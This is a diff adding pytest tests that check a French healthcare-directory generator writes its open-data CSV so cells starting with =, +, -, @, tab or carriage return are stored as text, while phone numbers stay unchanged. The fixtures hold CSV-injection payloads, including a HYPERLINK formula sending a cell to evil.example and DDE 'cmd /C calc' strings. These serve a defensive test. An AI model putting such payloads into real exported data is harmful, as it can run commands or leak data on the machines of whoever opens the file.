@@ -164,3 +164,51 @@ def test_the_open_data_page_links_the_three_files(demo_site: Path) -> None:
         assert (demo_site / "donnees" / name).is_file()
     assert "Licence Ouverte" in page
     assert "Ce qui n'est jamais exporté" in page
+
+
+FORMULAS = {  # a structure's fields: payloads of the kind OWASP lists for CSV injection
+    "nom": "=HYPERLINK(https://evil.example/?x=A1;Cliquez)",
+    "adresse": "-2+3+cmd /C calc!A0",
+    "horaires": {"lundi": "08:00-12:00", "remarque": "@SUM(1+1)*cmd /C calc!A0"},
+}
+
+
+def test_csv_cells_are_never_run_as_formulas_yet_phones_stay_numbers(project: Path) -> None:
+    """A member's field beginning with = + - @ is written as text (« ' » first), as in the
+    contact service's export; an international phone number is not."""
+    from cpts.pages.stage import generate
+
+    from .conftest import TODAY
+
+    structure = project / "directory" / "structures" / "msp-test.yml"
+    data = yaml.safe_load(structure.read_text("utf-8"))
+    data.update(FORMULAS, telephone="+33 4 92 20 10 10")
+    structure.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
+    docs = generate(project, project / "build" / "docs", today=TODAY).out
+    with (docs / "donnees" / "annuaire.csv").open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    (msp,) = [r for r in rows if r["identifiant"] == "msp-test"]
+    assert msp["nom"] == "'" + FORMULAS["nom"]
+    assert msp["adresse"] == "'" + FORMULAS["adresse"]
+    (claire,) = [r for r in rows if r["identifiant"] == "martin-claire"]
+    assert claire["structure"] == "msp-test"
+    assert claire["adresse"] == "'" + FORMULAS["adresse"]
+    assert msp["telephone"] == claire["telephone"] == "+33 4 92 20 10 10"
+    assert msp["horaires"] == "lundi 08:00-12:00 ; @SUM(1+1)*cmd /C calc!A0"  # not first: text
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "@", "\t", "\r")), (column, cell)
+            if cell.startswith(("+", "-")):
+                assert cell.replace(" ", "").replace(".", "").lstrip("+-").isdigit(), (column, cell)
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@A1", "'@A1"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("- 3", "'- 3"),
+    ("+33 4 92 21 00 00", "+33 4 92 21 00 00"), ("-1.6843", "-1.6843"), ("04 92", "04 92"),
+    ("+33 4 92 21 00 00\n=1", "'+33 4 92 21 00 00\n=1"), ("Dr =1", "Dr =1"),
+])
+def test_safe_cell(value: str, written: str) -> None:
+    from cpts.spreadsheet import safe_cell
+
+    assert safe_cell(value) == written
